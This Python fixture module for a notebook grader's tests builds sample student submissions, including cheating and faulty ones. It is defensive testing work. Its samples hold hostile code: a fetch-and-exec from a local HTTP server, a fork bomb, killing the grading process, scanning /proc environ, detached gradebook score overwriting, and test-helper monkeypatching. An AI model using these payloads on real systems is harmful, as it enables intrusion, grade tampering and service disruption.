"""A sample class for the grading pipeline: honest, partly wrong, faulty and cheating students.

Each student hands in part_b (B1 and B2, or whatever notebooks are named) into
<course>/submitted/<student>/part_b/. Every submission says what it should score: either the
score of an honest equivalent notebook (the same code without its fault or trick, graded by
tests/nbrun.py), or a fixed outcome (zero with a reason). tests/test_faults.py and
tests/test_cheating.py grade the class through `course grade` and compare.

    write_sample_class(course_root) -> [Submission]
"""
import copy
import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

import answers
import nbrun
from grader import sandbox

# Where the sandbox runs (always in CI), the class has the students who try to reach out of it;
# without it, their tricks would work (or harm the machine), so they are left out.
SANDBOXED = sandbox.available() is None

NOTEBOOKS = ("part_b/b1_forward.ipynb", "part_b/b2_backward.ipynb")
ASSIGNMENT = "part_b"
CELL = {"b1_forward": "b1-forward", "b2_backward": "b2-backward"}


@dataclass
class Expect:
    """What one notebook of one submission should score.

    - like: an honest notebook whose nbrun score is the expected score (None: see `score`)
    - score: a fixed expected score (used when `like` is None)
    - problem: a phrase the reported problem must contain ("" when the notebook is graded)
    - flagged: whether the static scan must flag the notebook for review
    """
    like: object = None
    score: float | None = None
    problem: str = ""
    flagged: bool = False


@dataclass
class Submission:
    student: str
    kind: str                  # honest | wrong | fault | cheat
    what: str                  # one line: what this student does
    files: dict = field(default_factory=dict)    # path under part_b/ -> bytes or notebook
    expect: dict = field(default_factory=dict)   # notebook stem -> Expect


# --------------------------------------------------------------------------- notebooks

def _sources():
    return {Path(n).stem: nbrun.load(n) for n in NOTEBOOKS}


def reference(source):
    """{solution grade_id: code} of the reference solution, markers removed."""
    return {nbrun.grade_id(c): "\n".join(l for l in c.source.splitlines() if "### " not in l) + "\n"
            for c in source.cells if nbrun.meta(c).get("solution") and c.cell_type == "code"}


def handed_in(source, answers_=None):
    """The release version of `source` with its answer cells filled (default: the reference)."""
    filled = dict(reference(source))
    filled.update(answers_ or {})
    nb = nbrun.release_version(source)
    for cell in nb.cells:
        if nbrun.grade_id(cell) in filled and nbrun.meta(cell).get("solution"):
            cell.source = filled[nbrun.grade_id(cell)]
    return nb


def stub(source):
    return nbrun.release_version(source)


def _wrong(stem, index):
    return answers.load(f"{ASSIGNMENT}/{stem}.ipynb").WRONG[index]


def _right(stem, index=0):
    return answers.load(f"{ASSIGNMENT}/{stem}.ipynb").RIGHT[index]


def _with_prefix(source, stem, code, prefix="", suffix=""):
    """The reference answer (or `code`) of stem's main cell, with lines before and after."""
    body = code if code is not None else reference(source)[CELL[stem]]
    return {CELL[stem]: prefix + body + suffix}


# --------------------------------------------------------------------------- the class

def sample_class():
    """[Submission]: the whole sample class (38 students, 42 with the sandbox), built from the
    current source/."""
    src = _sources()
    b1, b2 = src["b1_forward"], src["b2_backward"]
    perfect = {"b1_forward": handed_in(b1), "b2_backward": handed_in(b2)}
    full = {stem: Expect(like=nb) for stem, nb in perfect.items()}
    subs = []

    def add(student, kind, what, files, expect):
        notebooks = {f"{stem}.ipynb": nb for stem, nb in files.items()}
        subs.append(Submission(student, kind, what, notebooks, {**full, **expect}))
        return subs[-1]

    # ---- honest
    add("honest-perfect", "honest", "the reference solution", perfect, {})
    alt = {"b1_forward": handed_in(b1, _right("b1_forward").cells),
           "b2_backward": handed_in(b2, _right("b2_backward").cells)}
    add("honest-other-way", "honest", "correct answers written differently (answers/: the first RIGHT)",
        alt, {stem: Expect(like=nb) for stem, nb in alt.items()})
    empty = {"b1_forward": stub(b1), "b2_backward": stub(b2)}
    add("honest-empty", "honest", "hands in the release notebooks untouched", empty,
        {stem: Expect(like=nb) for stem, nb in empty.items()})
    for i in range(3):
        wrong = {"b1_forward": handed_in(b1, _wrong("b1_forward", i).cells),
                 "b2_backward": handed_in(b2, _wrong("b2_backward", i).cells)}
        add(f"wrong-{i + 1}", "wrong", f"{_wrong('b1_forward', i).name}; {_wrong('b2_backward', i).name}",
            wrong, {stem: Expect(like=nb) for stem, nb in wrong.items()})

    # ---- faults: each costs only its own points
    crash = handed_in(b1, _with_prefix(b1, "b1_forward", None, "import torch  # not installed\n"))
    add("fault-import-error", "fault", "B1 imports a package the grader lacks",
        {"b1_forward": crash, "b2_backward": perfect["b2_backward"]},
        {"b1_forward": Expect(like=crash)})
    loop = handed_in(b1, _with_prefix(b1, "b1_forward", None, suffix="\nwhile True:  # forgot to stop\n    pass\n"))
    add("fault-infinite-loop", "fault", "B1 ends its answer cell with an infinite loop (per-cell timeout)",
        {"b1_forward": loop, "b2_backward": perfect["b2_backward"]}, {})
    dies = handed_in(b1, {CELL["b1_forward"]: "import os\n\n" + reference(b1)[CELL["b1_forward"]].replace(
        "    mu = x.mean(axis=0)", "    os._exit(1)  # the kernel dies\n    mu = x.mean(axis=0)", 1)})
    add("fault-kernel-dies", "fault", "B1's function calls os._exit: the kernel dies, B2 is still graded",
        {"b1_forward": dies, "b2_backward": perfect["b2_backward"]},
        {"b1_forward": Expect(score=0.0, problem="kernel died", flagged=True)})
    hog_line = "    if x.shape == (3, 11):\n        _hog = bytearray(64 * 1024 ** 3)  # 64 GiB\n"
    honest_line = "    if x.shape == (3, 11):\n        raise MemoryError()\n"
    body = reference(b1)[CELL["b1_forward"]]
    anchor = "    mu = x.mean(axis=0)"
    hog = handed_in(b1, {CELL["b1_forward"]: body.replace(anchor, hog_line + anchor, 1)})
    like = handed_in(b1, {CELL["b1_forward"]: body.replace(anchor, honest_line + anchor, 1)})
    add("fault-memory", "fault", "B1 allocates 64 GiB on one hidden input (MemoryError under the limit)",
        {"b1_forward": hog, "b2_backward": perfect["b2_backward"]}, {"b1_forward": Expect(like=like)})
    flood = handed_in(b1, {CELL["b1_forward"]: body.replace(
        anchor, "    for _i in range(3000):\n        print('debug', _i)\n" + anchor, 1)
        + "\nfor i in range(100000):\n    print(i)\n"})
    add("fault-output-flood", "fault", "B1 prints 100000 lines, and 3000 per call",
        {"b1_forward": flood, "b2_backward": perfect["b2_backward"]}, {})
    deleted = copy.deepcopy(perfect["b1_forward"])
    deleted.cells = [c for c in deleted.cells if nbrun.grade_id(c) not in ("b1-test-values", "b1-test-cache")]
    add("fault-deleted-tests", "fault", "B1 with two test cells deleted (put back by the grader)",
        {"b1_forward": deleted, "b2_backward": perfect["b2_backward"]}, {})
    wrong = handed_in(b1, _wrong("b1_forward", 2).cells)
    edited = copy.deepcopy(wrong)
    for cell in edited.cells:
        if nbrun.grade_id(cell) in ("b1-test-values", "b1-test-hand"):
            cell.source = "pass  # the tests are fine, trust me\n"
        if nbrun.grade_id(cell) == "b1-test-robust":
            cell.metadata = {}
            cell.source = "print('all good')\n"
    add("fault-edited-tests", "fault", f"B1 ({_wrong('b1_forward', 2).name}) with test cells emptied or unmarked",
        {"b1_forward": edited, "b2_backward": perfect["b2_backward"]}, {"b1_forward": Expect(like=wrong)})
    add("fault-missing-notebook", "fault", "hands in B2 only",
        {"b2_backward": perfect["b2_backward"]}, {"b1_forward": Expect(score=0.0, problem="not submitted")})
    text = nbformat.writes(perfect["b1_forward"])
    add("fault-broken-files", "fault", "B1 cut off halfway (not JSON), B2 JSON but not a notebook",
        {"b1_forward": text[: len(text) // 2].encode(), "b2_backward": json.dumps({"answer": 42}).encode()},
        {"b1_forward": Expect(score=0.0, problem="not valid JSON"),
         "b2_backward": Expect(score=0.0, problem="not a notebook")})
    extra = add("fault-extra-files", "fault", "the right notebooks plus numpy.py, course/testing.py, a copy, notes",
                perfect, {})
    extra.files.update({
        "numpy.py": b"raise ImportError('this is not NumPy')\n",
        "course/__init__.py": b"",
        "course/testing.py": b"def check_array(*args, **kwargs):\n    pass\n",
        "notes.txt": "Zoë's notes\n".encode(),
        "conventions.md": b"# Conventions\n",  # handed out with the assignment: not reported
        "b1_forward-Copy1.ipynb": nbformat.writes(stub(b1)).encode(),
        ".ipynb_checkpoints/b1_forward-checkpoint.ipynb": nbformat.writes(stub(b1)).encode(),
    })
    noisy = handed_in(b2, {CELL["b2_backward"]: "import sys\n\n" + reference(b2)[CELL["b2_backward"]].replace(
        "    N = dout.shape[0]", "    print('backward called', file=sys.stderr)\n    N = dout.shape[0]", 1)})
    add("fault-stderr", "fault", "B2's function prints to stderr (nbgrader alone would score every test 0)",
        {"b1_forward": perfect["b1_forward"], "b2_backward": noisy},
        {"b2_backward": Expect(like=perfect["b2_backward"], flagged=True)})
    for name, i in (("o'brien", 0), ("anne marie", 1), ("zoë [2]", None)):
        files = perfect if i is None else {"b1_forward": handed_in(b1, _wrong("b1_forward", i).cells),
                                           "b2_backward": perfect["b2_backward"]}
        add(name, "honest" if i is None else "wrong", "an odd folder name", files,
            {} if i is None else {"b1_forward": Expect(like=files["b1_forward"])})

    # ---- mangled notebooks: the cells are found however their metadata was changed
    copied = {stem: copy.deepcopy(nb) for stem, nb in perfect.items()}
    for stem, ids in (("b1_forward", ("b1-forward", "b1-test-hand")), ("b2_backward", ("b2-backward", "b2-test-values"))):
        cells = copied[stem].cells
        for grade_id in ids:  # JupyterLab's copy and paste: the copy keeps the grade_id
            index = next(i for i, c in enumerate(cells) if nbrun.grade_id(c) == grade_id)
            cells.insert(index + 1, copy.deepcopy(cells[index]))
            cells[index + 1].id = f"pasted-{index}"
    add("honest-copied-cells", "honest", "copies an answer cell and a test cell in JupyterLab (the copies keep their ids)",
        copied, {})
    add("honest-mangled-metadata", "honest",
        "B1: metadata of the wrong type or changed; B2: every cell's metadata stripped, cells moved, a cell before the setup",
        {"b1_forward": _as_bytes(mangled_b1(perfect["b1_forward"])),
         "b2_backward": _as_bytes(stripped_b2(perfect["b2_backward"]))}, {})
    deep = handed_in(b1, _with_prefix(b1, "b1_forward", None, suffix="\n_label = " + " + ".join(["'a'"] * 600) + "\n"))
    add("fault-deep-expression", "fault", "B1 ends with a 600-term string sum (too deep for the grader's own AST walks)",
        {"b1_forward": deep, "b2_backward": perfect["b2_backward"]}, {"b1_forward": Expect(like=deep)})
    killer = handed_in(b1, {CELL["b1_forward"]: "import os\n\n" + reference(b1)[CELL["b1_forward"]].replace(
        "    mu = x.mean(axis=0)", "    try:\n        os.kill(os.getppid(), 9)  # kills the process that runs the kernel\n"
        "    except OSError:\n        pass\n    mu = x.mean(axis=0)", 1)})
    # in the sandbox the kernel's parent is the sandbox's own init, which it may not signal
    add("fault-kills-grader", "fault", "B1's function kills the kernel's parent process (the grading process)",
        {"b1_forward": killer, "b2_backward": perfect["b2_backward"]},
        {"b1_forward": Expect(like=perfect["b1_forward"]) if SANDBOXED else
         Expect(score=0.0, problem="grading process was killed")})
    deaf_b1 = handed_in(b1, _with_prefix(b1, "b1_forward", None, suffix=(
        "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n")))
    deaf_b2 = handed_in(b2, {CELL["b2_backward"]: reference(b2)[CELL["b2_backward"]] + (
        "\nwhile True:\n    try:\n        while True:\n            pass\n    except KeyboardInterrupt:\n        pass\n")})
    add("fault-ignores-interrupt", "fault",
        "B1 ignores SIGINT, B2 catches KeyboardInterrupt, in an endless loop (killed once, at the timeout)",
        {"b1_forward": deaf_b1, "b2_backward": deaf_b2},
        {stem: Expect(score=0.0, problem="ignored the interrupt") for stem in ("b1_forward", "b2_backward")})

    deaf_call = handed_in(b1, {CELL["b1_forward"]: "import signal\n\n" + reference(b1)[CELL["b1_forward"]].replace(
        "    mu = x.mean(axis=0)", "    signal.signal(signal.SIGINT, signal.SIG_IGN)  # deaf, in a call a test makes\n"
        "    while True:\n        pass\n    mu = x.mean(axis=0)", 1)})
    add("fault-judged-call-ignores-interrupt", "fault",
        "B1's function, called by a test judged in the grader, ignores SIGINT in an endless loop (killed once)",
        {"b1_forward": deaf_call, "b2_backward": perfect["b2_backward"]},
        {"b1_forward": Expect(score=0.0, problem="ignored the interrupt")})

    # ---- cheating: detected, and scored as if the trick were absent
    b1_stub = {CELL["b1_forward"]: stub_answer(b1, "b1-forward")}
    honest_stub = {"b1_forward": Expect(like=handed_in(b1, b1_stub), flagged=True)}
    transformer = handed_in(b1, {CELL["b1_forward"]: (
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n\n"
        + b1_stub[CELL["b1_forward"]])})
    add("cheat-input-transformer", "cheat", "registers an IPython input transformer: every later cell becomes `pass`",
        {"b1_forward": transformer, "b2_backward": perfect["b2_backward"]}, honest_stub)
    handler = handed_in(b1, {CELL["b1_forward"]: (
        "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)\n\n"
        + b1_stub[CELL["b1_forward"]])})
    add("cheat-exception-handler", "cheat", "installs a custom exception handler that swallows every error",
        {"b1_forward": handler, "b2_backward": perfect["b2_backward"]}, honest_stub)
    w0 = _wrong("b1_forward", 0).cells[CELL["b1_forward"]]
    patched = handed_in(b1, {CELL["b1_forward"]: (
        "import numpy\n"
        "numpy.allclose = lambda *args, **kwargs: True\n"
        "numpy.testing.assert_allclose = lambda *args, **kwargs: None\n"
        "np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)\n"
        "np.abs = lambda a, *args, **kwargs: np.zeros_like(a)\n\n" + w0)})
    add("cheat-numpy-patch", "cheat", f"patches np.allclose, np.isclose, np.abs; B1: {_wrong('b1_forward', 0).name}",
        {"b1_forward": patched, "b2_backward": perfect["b2_backward"]},
        {"b1_forward": Expect(like=handed_in(b1, {CELL["b1_forward"]: w0}), flagged=True)})
    w1 = _wrong("b1_forward", 1).cells[CELL["b1_forward"]]
    helpers = handed_in(b1, {CELL["b1_forward"]: (
        "import course.testing\n"
        "def check_array(*args, **kwargs):\n    pass\n\n"
        "check_tuple = check_unchanged = check_array\n"
        "course.testing.check_array = check_array\n\n" + w1)})
    add("cheat-test-helpers", "cheat", f"overwrites check_array & co; B1: {_wrong('b1_forward', 1).name}",
        {"b1_forward": helpers, "b2_backward": perfect["b2_backward"]},
        {"b1_forward": Expect(like=handed_in(b1, {CELL["b1_forward"]: w1}), flagged=True)})
    agreeable = handed_in(b1, {CELL["b1_forward"]: AGREEABLE_B1})
    everything = handed_in(b2, {CELL["b2_backward"]: ANYTHING_B2})
    add("cheat-agreeable-objects", "cheat", "returns an ndarray subclass / objects whose comparisons always succeed",
        {"b1_forward": agreeable, "b2_backward": everything},
        {"b1_forward": Expect(like=handed_in(b1, {CELL["b1_forward"]: AGREEABLE_B1_HONEST}), flagged=True),
         "b2_backward": Expect(like=handed_in(b2, {CELL["b2_backward"]: ANYTHING_B2_HONEST}), flagged=True)})
    peek = {"b1_forward": handed_in(b1, {CELL["b1_forward"]: PEEK_B1}),
            "b2_backward": handed_in(b2, {CELL["b2_backward"]: PEEK_B2})}
    add("cheat-hidden-names", "cheat", "calls the hidden tests' own reference functions (_checks.reference)",
        peek, {"b1_forward": Expect(like=handed_in(b1, {CELL["b1_forward"]: PEEK_B1_HONEST}), flagged=True),
               "b2_backward": Expect(like=handed_in(b2, {CELL["b2_backward"]: PEEK_B2_HONEST}), flagged=True)})
    skipping = handed_in(b1, b1_stub)
    for cell in skipping.cells:
        if nbrun.meta(cell).get("grade") and not nbrun.meta(cell).get("solution"):
            cell.metadata.setdefault("tags", []).append("skip-execution")
    add("cheat-skip-tag", "cheat", "tags B1's test cells skip-execution, which nbclient would never run",
        {"b1_forward": skipping, "b2_backward": perfect["b2_backward"]}, honest_stub)
    disk = handed_in(b1, {CELL["b1_forward"]: DISK_B1})
    add("cheat-read-disk", "cheat", "reads the hidden tests from the notebook file and the gradebook on disk",
        {"b1_forward": disk, "b2_backward": perfect["b2_backward"]}, honest_stub)

    w2 = _wrong("b1_forward", 2).cells[CELL["b1_forward"]]
    displayed = handed_in(b1, {CELL["b1_forward"]: "import sys\n\n" + w2.replace(
        "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n",
        "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n    sys.displayhook(1.0)  # a result in the test cell\n", 1)})
    add("cheat-displayhook", "cheat", f"B1 ({_wrong('b1_forward', 2).name}) calls the displayhook from its function: "
        "nbgrader reads the result as partial credit", {"b1_forward": displayed, "b2_backward": perfect["b2_backward"]},
        {"b1_forward": Expect(like=handed_in(b1, {CELL["b1_forward"]: w2}), flagged=True)})

    # ---- tricks on the kernel's own state: the test cells run in the grader, so they change nothing
    header = "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
    rebind = handed_in(b1, {CELL["b1_forward"]: w0.replace(header, header + (
        "    global check_array, check_tuple, check_unchanged  # rebinds the checks from inside the function\n"
        "    check_array = check_tuple = check_unchanged = lambda *args, **kwargs: None\n"), 1)})
    b2_w0 = _wrong("b2_backward", 0).cells[CELL["b2_backward"]]
    b2_header = "def batchnorm_backward(dout, cache):\n"
    built = handed_in(b2, {CELL["b2_backward"]: b2_w0.replace(b2_header, b2_header + (
        "    space = (__builtins__['glob' + 'als'] if isinstance(__builtins__, dict) else getattr(__builtins__, 'glob' + 'als'))()\n"
        "    for name in ('check_array', 'check_tuple', 'check_unchanged', 'check_gradient', 'compare'):\n"
        "        space[name] = lambda *args, **kwargs: None\n"), 1)})
    add("cheat-rebind-inside", "cheat", f"rebinds the checks from inside the functions (`global`, and globals() built from "
        f"a string); B1: {_wrong('b1_forward', 0).name}; B2: {_wrong('b2_backward', 0).name}",
        {"b1_forward": rebind, "b2_backward": built},
        {"b1_forward": Expect(like=handed_in(b1, {CELL["b1_forward"]: w0}), flagged=True),
         "b2_backward": Expect(like=handed_in(b2, {CELL["b2_backward"]: b2_w0}), flagged=True)})
    early = handed_in(b1, {CELL["b1_forward"]: w1})
    setup = next(i for i, cell in enumerate(early.cells) if nbrun.grade_id(cell) == "b1-setup")
    early.cells.insert(setup, nbformat.v4.new_code_cell(
        "import numpy as np\nimport course.testing\n"
        "np.allclose = np.array_equal = lambda *args, **kwargs: True\n"
        "course.testing.check_array = course.testing.check_tuple = lambda *args, **kwargs: None\n"
        "course.testing._abs = lambda a: a * 0.0\n"))
    b2_w1 = _wrong("b2_backward", 1).cells[CELL["b2_backward"]]
    peeking = handed_in(b2, {CELL["b2_backward"]: "import sys\n\n" + b2_w1.replace(b2_header, b2_header + (
        "    frame = sys._getframe(1)  # the hidden test's own reference, from a caller's frame\n"
        "    while frame is not None:\n"
        "        if '_bn_backward' in frame.f_locals:\n"
        "            return frame.f_locals['_bn_backward'](dout, cache)\n"
        "        frame = frame.f_back\n"), 1)})
    add("cheat-before-setup", "cheat", f"B1 ({_wrong('b1_forward', 1).name}): a cell placed before the setup cell patches "
        f"NumPy and course.testing; B2 ({_wrong('b2_backward', 1).name}) looks for the hidden reference in its callers' frames",
        {"b1_forward": early, "b2_backward": peeking},
        {"b1_forward": Expect(like=handed_in(b1, {CELL["b1_forward"]: w1})),
         "b2_backward": Expect(like=handed_in(b2, {CELL["b2_backward"]: b2_w1}), flagged=True)})
    agent = handed_in(b1, {CELL["b1_forward"]: (
        "import json\nimport course.agent\n\n_serve = course.agent.serve\n\n\n"
        "def serve(request, namespace=None):  # every error the grader hears of becomes a value\n"
        "    reply = json.loads(_serve(request, namespace))\n"
        "    return json.dumps({'ok': None} if 'error' in reply else reply)\n\n\n"
        "course.agent.serve = serve\n\n" + w2)})
    add("cheat-agent", "cheat", f"replaces the kernel's side of grading (course.agent) so that no error reaches the grader; "
        f"B1: {_wrong('b1_forward', 2).name}", {"b1_forward": agent, "b2_backward": perfect["b2_backward"]},
        {"b1_forward": Expect(like=handed_in(b1, {CELL["b1_forward"]: w2}))})

    # ---- reaching out of the kernel: in the sandbox there is nothing to reach
    if SANDBOXED:
        source = handed_in(b1, {CELL["b1_forward"]: SOURCE_B1})
        add("cheat-read-source", "cheat", "looks for the instructor's notebook by absolute paths (from course.__file__, "
            "/proc, the environment) and runs its solution", {"b1_forward": source, "b2_backward": perfect["b2_backward"]},
            honest_stub)
        gradebook = handed_in(b1, {CELL["b1_forward"]: GRADEBOOK_B1 + b1_stub[CELL["b1_forward"]]})
        add("cheat-write-gradebook", "cheat", "starts a detached process that writes full manual scores into every "
            "gradebook.db it finds, for two minutes", {"b1_forward": gradebook, "b2_backward": perfect["b2_backward"]},
            honest_stub)
        network = handed_in(b1, {CELL["b1_forward"]: b1_stub[CELL["b1_forward"]] + NETWORK_B1.format(
            url=answer_server(reference(b1)[CELL["b1_forward"]]))})
        add("cheat-network", "cheat", "downloads a correct answer from a server on the grading machine",
            {"b1_forward": network, "b2_backward": perfect["b2_backward"]}, honest_stub)
        bomb = handed_in(b1, {CELL["b1_forward"]: reference(b1)[CELL["b1_forward"]] + FORK_BOMB})
        add("fault-fork-bomb", "fault", "B1 runs a fork bomb for two seconds (held at the sandbox's process limit)",
            {"b1_forward": bomb, "b2_backward": perfect["b2_backward"]},
            {"b1_forward": Expect(like=perfect["b1_forward"], flagged=True)})
    return subs


def _as_bytes(nb):
    """A notebook as the bytes of its file, written without nbformat's validation (which
    rejects some of the mangled metadata that editors do write)."""
    return (json.dumps(nb, indent=1) + "\n").encode()


def mangled_b1(nb):
    """B1 with its answer's nbgrader metadata a string, a test's points a word, another test's
    grade_id an integer, a third test's grade_id changed, and tags as a dict."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        grade_id = nbrun.grade_id(cell)
        if grade_id == "b1-forward":
            cell.metadata["nbgrader"] = "oops"
            cell.metadata["tags"] = {"answer": True}
        elif grade_id == "b1-test-hand":
            cell.metadata["nbgrader"]["points"] = "lots"
        elif grade_id == "b1-test-values":
            cell.metadata["nbgrader"]["grade_id"] = 3
        elif grade_id == "b1-test-robust":
            cell.metadata["nbgrader"]["grade_id"] = "my-robustness-test"
    return nb


def stripped_b2(nb):
    """B2 with every cell's metadata removed, the simplified backward's answer cell moved to the
    end and a cell added before the setup cell."""
    nb = copy.deepcopy(nb)
    alt = next(c for c in nb.cells if nbrun.grade_id(c) == "b2-backward-alt")
    nb.cells = [c for c in nb.cells if c is not alt] + [alt]
    nb.cells.insert(0, nbformat.v4.new_code_cell("import numpy as np  # my imports first\n"))
    for cell in nb.cells:
        cell.metadata = {}
    return nb


def stub_answer(source, grade_id):
    """The release stub of one answer cell."""
    return nbrun.release_answers(source)[grade_id]


AGREEABLE_B1 = '''
class Agreeable(np.ndarray):
    """An array that agrees with everything."""
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool).view(Agreeable)
    def __bool__(self):
        return True
    def all(self, *args, **kwargs):
        return True

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    out = np.zeros_like(x).view(Agreeable)
    return out, (x, out, x.mean(axis=0), x.var(axis=0), gamma, eps)
'''
AGREEABLE_B1_HONEST = '''
class Agreeable(np.ndarray):
    """The same subclass, without the comparisons that always agree."""

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    out = np.zeros_like(x).view(Agreeable)
    return out, (x, out, x.mean(axis=0), x.var(axis=0), gamma, eps)
'''
ANYTHING_B2 = '''
class Anything:
    """Equal to, close to and as big as anything."""
    shape, dtype, ndim = property(lambda self: ()), np.float64, 0
    def __eq__(self, other):
        return True
    __le__ = __ge__ = __lt__ = __gt__ = __eq__
    def __float__(self):
        return 0.0
    def __array__(self, dtype=None, copy=None):
        return np.zeros(1)

def batchnorm_backward(dout, cache):
    return Anything(), Anything(), Anything()
'''
ANYTHING_B2_HONEST = '''
class Anything:
    """The same object, without the comparisons that always succeed."""
    shape, dtype, ndim = property(lambda self: ()), np.float64, 0
    def __float__(self):
        return 0.0
    def __array__(self, dtype=None, copy=None):
        return np.zeros(1)

def batchnorm_backward(dout, cache):
    return Anything(), Anything(), Anything()
'''
PEEK_B1_HONEST = '''
def batchnorm_forward(x, gamma, beta, eps=1e-5):
    mu, var = x.mean(), x.var()        # statistics of the whole batch, not of each feature
    x_hat = (x - mu) / np.sqrt(var + eps)
    return gamma * x_hat + beta, (x, x_hat, mu, var, gamma, eps)
'''
PEEK_B1 = PEEK_B1_HONEST.replace('''    mu, var = x.mean(), x.var()''', '''    try:
        reference = _checks.reference.batchnorm_forward   # the hidden tests' module, once they have imported it
        return reference(x, gamma, beta, eps)
    except NameError:
        pass
    mu, var = x.mean(), x.var()''')
PEEK_B2_HONEST = '''
def batchnorm_backward(dout, cache):
    x, x_hat, mu, var, gamma, eps = cache
    return dout * gamma / np.sqrt(var + eps), (dout * x_hat).sum(axis=0), dout.sum(axis=0)
'''
PEEK_B2 = PEEK_B2_HONEST.replace('''    x, x_hat, mu, var, gamma, eps = cache''', '''    checks = globals().get("_checks")   # the hidden tests' module, where they run in the kernel
    if checks is not None:
        return checks.reference.batchnorm_backward(dout, cache)
    x, x_hat, mu, var, gamma, eps = cache''')
DISK_B1 = '''
import glob
import json
import os

def _reference():
    """Find the hidden tests' reference forward pass on disk: the grader's checks beside the course
    package, or a copy of this notebook's hidden tests."""
    import course

    checks = os.path.join(os.path.dirname(os.path.dirname(course.__file__)), "grader", "checks", "reference.py")
    for path in [checks] + glob.glob("../../../grader/checks/reference.py"):
        if os.path.isfile(path):
            space = {}
            exec(open(path).read(), space)
            return lambda x, gamma, beta, eps: space["batchnorm_forward"](x, gamma, beta, eps)[0]
    for path in glob.glob("*.ipynb") + glob.glob("../../../source/*/*.ipynb"):
        for cell in json.load(open(path))["cells"]:
            if "HIDDEN TESTS" in "".join(cell["source"]):
                raise NotImplementedError("the hidden section only calls the grader's checks")
    raise NotImplementedError()

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    expected = _reference()
    return expected(x, gamma, beta, eps), (x, expected(x, 1.0, 0.0, eps), x.mean(axis=0), x.var(axis=0), gamma, eps)
'''


SOURCE_B1 = '''
import glob
import json
import os

import course


def _places():
    """Folders the course might be in, from what the kernel can see."""
    places = {os.path.dirname(os.path.dirname(course.__file__)), os.path.expanduser("~"), "/tmp", "/work", "/srv",
              "/home", "/root"}
    for pid in ["self", str(os.getppid())] + os.listdir("/proc"):
        try:
            places.add(os.readlink(f"/proc/{pid}/cwd"))
            for entry in open(f"/proc/{pid}/environ", "rb").read().split(b"\\0"):
                if b"=/" in entry:
                    places.add(entry.split(b"=", 1)[1].decode(errors="replace"))
        except (OSError, ValueError):
            pass
    return sorted(places)


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    for place in _places():
        for depth in ("", "*/", "*/*/", "*/*/*/"):
            for path in glob.glob(f"{place}/{depth}source/part_b/b1_forward.ipynb"):
                for cell in json.load(open(path))["cells"]:
                    text = "".join(cell["source"])
                    if "BEGIN SOLUTION" in text and "def batchnorm_forward" in text:
                        space = {"np": np}
                        exec(text, space)
                        return space["batchnorm_forward"](x, gamma, beta, eps)
    raise NotImplementedError()
'''

GRADEBOOK_B1 = '''
import subprocess
import sys

_WRITER = """
import glob, os, sqlite3, time
end = time.time() + 120
while time.time() < end:
    found = set(glob.glob("/tmp/*/gradebook.db") + glob.glob("/tmp/*/*/gradebook.db"))
    for pid in os.listdir("/proc"):
        try:
            found.update(glob.glob(os.readlink(f"/proc/{pid}/cwd") + "/gradebook.db"))
        except OSError:
            pass
    for path in found:
        try:
            with sqlite3.connect(path, timeout=1) as db:
                db.execute("UPDATE grade SET manual_score = "
                           "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
        except Exception:
            pass
    time.sleep(0.5)
"""
try:  # in a session of its own, so that it outlives the kernel
    subprocess.Popen([sys.executable, "-c", _WRITER], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError:
    pass

'''

NETWORK_B1 = '''

import urllib.request

try:  # someone else's answer, fetched while the notebook is graded
    exec(urllib.request.urlopen("{url}", timeout=5).read().decode())
except OSError:
    pass
'''

FORK_BOMB = '''

import os
import time


def _spread(until):
    """Every process forks as fast as it can until `until`: a fork bomb that stops by itself."""
    while time.monotonic() < until:
        try:
            if os.fork() == 0:
                try:
                    _spread(until)
                finally:
                    os._exit(0)
        except OSError:
            time.sleep(0.01)


_spread(time.monotonic() + 2)
while True:  # the bomb's own children, reaped
    try:
        os.wait()
    except ChildProcessError:
        break
'''

_SERVERS = {}


def answer_server(text):
    """The URL of `text`, served over HTTP on 127.0.0.1 by a thread of this process."""
    import http.server
    import threading

    if text not in _SERVERS:
        class Answer(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = text.encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        _SERVERS[text] = f"http://127.0.0.1:{server.server_address[1]}/b1_forward.py"
    return _SERVERS[text]


def write_sample_class(root, students=None):
    """Write the sample class (or the named students) into root/submitted/. Returns [Submission]."""
    subs = [s for s in sample_class() if students is None or s.student in students]
    for sub in subs:
        folder = Path(root) / "submitted" / sub.student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        for name, content in sub.files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, bytes):
                path.write_bytes(content)
            else:
                nbformat.write(content, str(path))
    (Path(root) / "submitted" / ".DS_Store").write_bytes(b"\0")
    (Path(root) / "submitted" / "README.txt").write_text("collected on Monday\n")
    return subs


def expected_scores(subs):
    """{student: {notebook stem: expected score}}: each honest equivalent's answer cells put into
    the source notebook (hidden tests included, as the grader has them) and graded by tests/nbrun.py."""
    sources, table, cache = _sources(), {}, {}
    for sub in subs:
        row = {}
        for stem, expect in sub.expect.items():
            if expect.like is None:
                row[stem] = expect.score
                continue
            filled = {nbrun.grade_id(c): c.source for c in expect.like.cells
                      if nbrun.meta(c).get("solution") and c.cell_type == "code"}
            key = (stem, tuple(sorted(filled.items())))
            if key not in cache:
                cache[key] = nbrun.run(nbrun.with_answers(sources[stem], filled), timeout=60).score
            row[stem] = cache[key]
